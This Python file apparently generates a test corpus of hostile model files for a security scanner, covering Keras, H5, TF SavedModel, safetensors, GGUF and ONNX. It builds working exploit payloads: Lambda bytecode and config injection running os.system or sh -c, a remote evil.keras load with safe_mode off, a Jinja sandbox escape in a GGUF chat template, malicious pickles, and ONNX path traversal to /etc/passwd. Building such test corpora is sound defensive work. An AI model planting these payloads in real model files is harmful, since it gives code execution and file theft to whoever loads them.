"""Hostile non-pickle formats (reference §4 items 25-26, §6.5): Keras .keras and H5, TF SavedModel,
safetensors, GGUF, ONNX."""

import base64
import io
import json
import marshal
import struct

import protobuf_wire as pb
from corpus import zip_bytes
from pickle_asm import CMD

D = "dangerous"
LAMBDA_SOURCE = f"lambda x: __import__('os').system('{CMD}') or x"


def lambda_code_b64():
    """base64(marshal(code)) of a lambda, as Keras serialises Lambda layers (generated, never run)."""
    return base64.b64encode(marshal.dumps(compile(LAMBDA_SOURCE, "<stemma-test>", "eval"))).decode()


def k3(module, class_name, config, registered_name=None, **extra):
    """A Keras 3 serialised object."""
    d = {"module": module, "class_name": class_name, "config": config, "registered_name": registered_name}
    d.update(extra)
    return d


def dense(name, units, activation="relu"):
    return k3("keras.layers", "Dense", {
        "name": name, "trainable": True, "dtype": k3("keras", "DTypePolicy", {"name": "float32"}),
        "units": units, "activation": activation, "use_bias": True,
        "kernel_initializer": k3("keras.initializers", "GlorotUniform", {"seed": None}),
        "bias_initializer": k3("keras.initializers", "Zeros", {}),
        "kernel_regularizer": None, "bias_regularizer": None, "kernel_constraint": None, "bias_constraint": None,
    }, build_config={"input_shape": [None, 4]})


def input_layer(name="input_layer"):
    return k3("keras.layers", "InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "sparse": False,
                                             "name": name})


def lambda_layer(name="lambda", function=None):
    if function is None:
        function = {"class_name": "__lambda__", "config": {"code": lambda_code_b64(), "defaults": None,
                                                           "closure": None}}
    return k3("keras.layers", "Lambda", {"name": name, "trainable": True,
                                         "dtype": k3("keras", "DTypePolicy", {"name": "float32"}),
                                         "function": function, "arguments": {}},
              build_config={"input_shape": [None, 4]})


def sequential(layers, name="sequential"):
    return k3("keras", "Sequential", {"name": name, "trainable": True, "layers": layers,
                                      "build_input_shape": [None, 4]},
              build_config={"input_shape": [None, 4]}, compile_config=None)


def keras_file(config, weights_h5):
    metadata = {"keras_version": "3.6.0", "date_saved": "2024-01-01@00:00:00"}
    return zip_bytes([("metadata.json", json.dumps(metadata).encode()),
                      ("config.json", json.dumps(config).encode()),
                      ("model.weights.h5", weights_h5)], compress=True)


def h5_bytes(model_config=None, weights=True, userblock=0):
    """A small HDF5 file written by h5py; model_config (a JSON string) as Keras 2 stores it. userblock: bytes
    reserved before the HDF5 superblock (the signature then sits at 512, 1024, ...)."""
    import h5py
    import numpy as np

    buf = io.BytesIO()
    with h5py.File(buf, "w", libver="earliest", userblock_size=userblock) as f:
        if model_config is not None:
            f.attrs["model_config"] = json.dumps(model_config).encode("utf-8")
            f.attrs["keras_version"] = b"2.15.0"
            f.attrs["backend"] = b"tensorflow"
        if weights:
            g = f.create_group("model_weights" if model_config is not None else "layers")
            d = g.create_group("dense")
            d.create_dataset("kernel", data=np.arange(8, dtype="<f4").reshape(4, 2), track_times=False)
            d.create_dataset("bias", data=np.zeros(2, dtype="<f4"), track_times=False)
    return buf.getvalue()


def keras2_sequential(layers):
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": layers}}


def keras2_dense(name="dense"):
    return {"class_name": "Dense", "config": {"name": name, "trainable": True, "dtype": "float32", "units": 2,
                                              "activation": "relu", "use_bias": True,
                                              "kernel_initializer": {"class_name": "GlorotUniform",
                                                                     "config": {"seed": None}},
                                              "bias_initializer": {"class_name": "Zeros", "config": {}}}}


def build(c):
    weights = h5_bytes()

    # --- Keras .keras (item 25) --------------------------------------------------------------------------
    c.add("keras/keras_lambda.keras", keras_file(sequential([input_layer(), lambda_layer(), dense("dense", 2)]),
                                                  weights), D,
          "Keras 3 Lambda layer with marshalled bytecode (item 25, CVE-2024-3660)")
    injected = dense("dense", 2, activation=k3("os", "function", "system", "system"))
    injected["config"]["kernel_initializer"] = k3("subprocess", "Popen", {"args": ["sh", "-c", CMD]})
    c.add("keras/keras_module_injection.keras", keras_file(sequential([input_layer(), injected]), weights), D,
          "config.json 'module': 'os' / 'subprocess' objects (item 25, CVE-2025-1550, row 46, missed by all three)")
    functional = k3("keras", "Functional", {
        "name": "inner", "trainable": True,
        "layers": [dict(input_layer("inner_input"), name="inner_input", inbound_nodes=[]),
                   dict(lambda_layer("inner_lambda"), name="inner_lambda",
                        inbound_nodes=[{"args": [{"class_name": "__keras_tensor__",
                                                  "config": {"shape": [None, 4], "dtype": "float32",
                                                             "keras_history": ["inner_input", 0, 0]}}],
                                        "kwargs": {}}])],
        "input_layers": [["inner_input", 0, 0]], "output_layers": [["inner_lambda", 0, 0]]})
    c.add("keras/keras_nested_lambda_functional.keras",
          keras_file(sequential([input_layer(), functional, dense("dense", 2)]), weights), D,
          "Lambda inside a Functional model nested in a Sequential (modelscan walks top-level layers only)")
    load_model = lambda_layer("loader", k3("keras.models", "function", "load_model", "function"))
    load_model["config"]["arguments"] = {"filepath": "https://example.invalid/evil.keras", "safe_mode": False}
    c.add("keras/keras_lambda_load_model.keras", keras_file(sequential([input_layer(), load_model]), weights), D,
          "Lambda whose function is keras.models.load_model(safe_mode=False) (CVE-2025-8747 / CVE-2025-9906)")

    # --- Keras H5 (CVE-2025-9905) ----------------------------------------------------------------------------
    lam = {"class_name": "Lambda", "config": {"name": "lambda", "trainable": True, "dtype": "float32",
                                              "function": [lambda_code_b64(), None, None], "function_type": "lambda",
                                              "module": "__main__", "output_shape": None,
                                              "output_shape_type": "raw", "arguments": {}}}
    c.add("keras/keras_lambda.h5", h5_bytes(keras2_sequential([lam, keras2_dense()])), D,
          "legacy H5 model_config with a Lambda: Keras ignores safe_mode for H5 (CVE-2025-9905, row 47)")
    c.add("keras/keras_lambda_userblock.h5", h5_bytes(keras2_sequential([lam, keras2_dense()]), userblock=512), D,
          "the same H5 Lambda behind a 512-byte user block (§6.1: HDF5 signature at 0, 512, 1024, ...)")
    from pickles import os_system

    blob = zip_bytes([("metadata.json", b'{"keras_version": "3.6.0"}'),
                      ("config.json", json.dumps(sequential([input_layer(), dense("dense", 2)])).encode()),
                      ("model.weights.h5", weights),
                      ("assets/state.pkl", c.pickle("keras_member", os_system(4)))], compress=True)
    c.add("keras/keras_pickle_member.keras", blob, D,
          "a standard .keras with a malicious pickle under assets/ (§6.5: a pickle anywhere is scanned)",
          "os.system", ["assets/state.pkl"])

    # --- TF SavedModel (§6.5) --------------------------------------------------------------------------------
    read = pb.saved_model([
        pb.node("filename", "Const", attrs=pb.attr_entry("dtype", pb.attr_type(7))),
        pb.node("contents", "ReadFile", ["filename"]),
        pb.node("out_path", "Const", attrs=pb.attr_entry("dtype", pb.attr_type(7))),
        pb.node("write", "WriteFile", ["out_path", "contents"]),
    ])
    c.add("tf/savedmodel_readfile/saved_model.pb", read, D,
          "SavedModel graph with ReadFile/WriteFile ops (modelscan: HIGH); §6.5 says dangerous or suspicious",
          accept=["suspicious"])
    pyfunc = pb.saved_model([
        pb.node("x", "Placeholder", attrs=pb.attr_entry("dtype", pb.attr_type(1))),
        pb.node("callback", "PyFunc", ["x"], attrs=pb.attr_entry("token", pb.attr_string("pyfunc_0"))),
    ])
    c.add("tf/savedmodel_pyfunc/saved_model.pb", pyfunc, D,
          "SavedModel graph with a PyFunc op (Python callback); §6.5 says dangerous or suspicious",
          accept=["suspicious"])

    # --- safetensors (§6.5 rows 50, 51) ------------------------------------------------------------------------
    header = json.dumps({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}).encode()
    c.add("safetensors/header_longer_than_file.safetensors", struct.pack("<Q", 10_000) + header + b"\x00" * 8,
          "malformed", "safetensors header length larger than the file (row 50)")
    header = json.dumps({"w": {"dtype": "F32", "shape": [1024], "data_offsets": [0, 4096]}}).encode()
    header += b" " * ((-len(header)) % 8)
    c.add("safetensors/offsets_outside_buffer.safetensors", struct.pack("<Q", len(header)) + header + b"\x00" * 16,
          "malformed", "safetensors data_offsets beyond the end of the buffer (row 51)")
    header = json.dumps({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                         "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}}).encode()
    header += b" " * ((-len(header)) % 8)
    c.add("safetensors/overlapping_offsets.safetensors", struct.pack("<Q", len(header)) + header + b"\x00" * 12,
          "malformed", "safetensors tensors overlapping in the buffer (§6.5 non-overlapping, contiguous)")

    header = json.dumps({"w": {"dtype": "F33", "shape": [2], "data_offsets": [0, 8]}}).encode()
    header += b" " * ((-len(header)) % 8)
    c.add("safetensors/unknown_dtype.safetensors", struct.pack("<Q", len(header)) + header + b"\x00" * 8,
          "malformed", "safetensors dtype 'F33' is not a safetensors dtype (§6.5)")
    header = json.dumps({"w": {"dtype": "F32", "shape": [3], "data_offsets": [0, 8]}}).encode()
    header += b" " * ((-len(header)) % 8)
    c.add("safetensors/size_mismatch.safetensors", struct.pack("<Q", len(header)) + header + b"\x00" * 8,
          "malformed", "safetensors data_offsets span 8 bytes for a [3] F32 tensor (12 bytes) (§6.5)")

    gguf_files(c)
    onnx_files(c)


# ------------------------------------------------------------------------------------------------------- GGUF

LLAMA3_TEMPLATE = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + "
    "message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}"
    "{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}"
    "{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}")
SSTI_TEMPLATE = (
    "{% for message in messages %}{{ message['content'] }}{% endfor %}"
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('" + CMD + "').read() }}")


def gguf_bytes(tmp_dir, name, chat_template):
    """A tiny GGUF (one 4x4 F32 tensor) written by the gguf package."""
    import gguf
    import numpy as np

    path = tmp_dir / (name + ".tmp")
    w = gguf.GGUFWriter(str(path), "llama")
    w.add_name("stemma-corpus-tiny")
    w.add_context_length(128)
    w.add_chat_template(chat_template)
    w.add_tensor("token_embd.weight", np.arange(16, dtype=np.float32).reshape(4, 4))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()
    blob = path.read_bytes()
    path.unlink()
    return blob


def gguf_files(c):
    blob = gguf_bytes(c.root, "ssti", SSTI_TEMPLATE)
    c.add("gguf/chat_template_ssti.gguf", blob, "suspicious",
          "tokenizer.chat_template with a Jinja sandbox escape (item 26, CVE-2024-34359, row 53)")
    blob = bytearray(gguf_bytes(c.root, "oversized", LLAMA3_TEMPLATE))
    key = b"general.architecture"
    at = blob.index(key) + len(key)
    assert struct.unpack_from("<I", blob, at)[0] == 8  # GGUF string type
    struct.pack_into("<Q", blob, at + 4, 0xFFFF_FFFF_FFFF_0000)
    c.add("gguf/oversized_string_length.gguf", bytes(blob), "malformed",
          "a KV string length far beyond the file (llama.cpp parser-bug vector, item 26)")
    blob = bytearray(gguf_bytes(c.root, "badtype", LLAMA3_TEMPLATE))
    at = blob.index(b"general.name") + len(b"general.name")
    assert struct.unpack_from("<I", blob, at)[0] == 8
    struct.pack_into("<I", blob, at, 13)
    c.add("gguf/bad_kv_type.gguf", bytes(blob), "malformed", "a KV value type 13 (valid types are 0-12) (§6.5 GGUF)")


# ------------------------------------------------------------------------------------------------------- ONNX


def onnx_model(external_location=None, custom_domain=None):
    from onnx import TensorProto, helper

    w = helper.make_tensor("W", TensorProto.FLOAT, [4], struct.pack("<4f", 1.0, 2.0, 3.0, 4.0), raw=True)
    if external_location is not None:
        w = TensorProto(name="W", data_type=TensorProto.FLOAT, dims=[4])
        w.data_location = TensorProto.EXTERNAL
        for k, v in (("location", external_location), ("offset", "0"), ("length", "16")):
            e = w.external_data.add()
            e.key, e.value = k, v
    op, domain = ("Add", "") if custom_domain is None else ("StemmaCustomOp", custom_domain)
    node = helper.make_node(op, ["X", "W"], ["Y"], domain=domain)
    graph = helper.make_graph([node], "g", [helper.make_tensor_value_info("X", TensorProto.FLOAT, [4])],
                              [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [4])], initializer=[w])
    opsets = [helper.make_opsetid("", 17)]
    if custom_domain:
        opsets.append(helper.make_opsetid(custom_domain, 1))
    model = helper.make_model(graph, opset_imports=opsets, producer_name="stemma-corpus")
    model.ir_version = 8
    return model


def onnx_files(c):
    for rel, loc, why in (
            ("onnx/external_data_traversal.onnx", "../../etc/passwd",
             "external_data location '../../etc/passwd' (item 26, row 54)"),
            ("onnx/external_data_absolute.onnx", "/etc/passwd", "external_data location is an absolute path")):
        c.add(rel, onnx_model(external_location=loc).SerializeToString(), D, why)
    c.add("onnx/custom_op_domain.onnx", onnx_model(custom_domain="com.example.native").SerializeToString(),
          "suspicious", "a custom-op domain: needs a native custom-op library (§6.5)")
